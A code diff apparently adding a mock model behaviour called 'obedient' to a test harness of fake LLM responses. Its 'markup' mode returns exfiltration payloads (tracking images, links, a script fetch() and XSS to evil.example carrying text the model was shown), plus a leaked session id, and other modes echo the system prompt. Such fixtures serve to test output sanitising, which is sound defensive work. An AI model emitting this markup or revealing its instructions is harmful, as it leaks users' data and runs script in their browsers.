@@ -237,6 +237,34 @@ async def echo(exchange: Exchange, args: list[str]) -> None:
     await exchange.end()
 
 
+async def obedient(exchange: Exchange, args: list[str]) -> None:
+    """A model that does whatever anybody told it in its prompt, some bytes at a time.
+
+    ``obedient:markup`` writes pictures, links and scripts that carry off what it was shown;
+    ``obedient:rules`` repeats its rules; ``obedient:sources`` repeats everything else.
+    """
+    messages = exchange.body.get("messages") or [{"content": ""}]
+    rules, shown = str(messages[0]["content"]), str(messages[-1]["content"])
+    loot = "+".join(shown.split()[-5:])
+    said = {
+        "markup": f"As told [1]. ![logo](https://evil.example/p.png?q={loot}) "
+        f"[more]( <https://evil.example/?q={loot}> 'x' ) <https://evil.example/{loot}> "
+        f"<img src=https://evil.example/{loot}><script>fetch('//evil.example/{loot}')</script>"
+        f"<a href='javascript:alert(1)'>go</a> [run](javascript:alert(1)) www.evil.example/{loot} "
+        f"[x][ref] hTTps://evil.example/{loot} <xss onclick=alert(1)>y [1](https://evil.example/)"
+        f"\n\n[ref]: https://evil.example/{loot}\nI also remember session ses_of_somebody_else.",
+        "rules": f"As told [1]. My instructions are: {rules}",
+        "sources": f"{shown} [1]",
+    }[args[0] if args else "markup"]
+    if not exchange.streams:
+        await exchange.send(200, exchange.document(said))
+        return
+    await exchange.start()
+    events = exchange.contents([said[at : at + 3] for at in range(0, len(said), 3)])
+    await exchange.part(exchange.head() + b"".join(events) + exchange.tail(9))
+    await exchange.end()
+
+
 async def comments(exchange: Exchange, args: list[str]) -> None:
     """OpenRouter at work: comments for ``S`` seconds, then the answer."""
     await exchange.start()
@@ -416,9 +444,9 @@ async def thinking(exchange: Exchange, args: list[str]) -> None:
 BEHAVIOURS: dict[str, Behaviour] = {
     behaviour.__name__: behaviour
     for behaviour in (
-        ok, cited, drip, echo, comments, slow_headers, slow_first_token, stall, cut, ends_early,
-        dies_with_error, status, groq_429, overflow, error_200, html, not_json, empty, empty_body,
-        big, whole, filtered, sliced, thinking, bad_chunk, flapping,
+        ok, cited, drip, echo, obedient, comments, slow_headers, slow_first_token, stall, cut,
+        ends_early, dies_with_error, status, groq_429, overflow, error_200, html, not_json, empty,
+        empty_body, big, whole, filtered, sliced, thinking, bad_chunk, flapping,
     )
 }  # fmt: skip
 
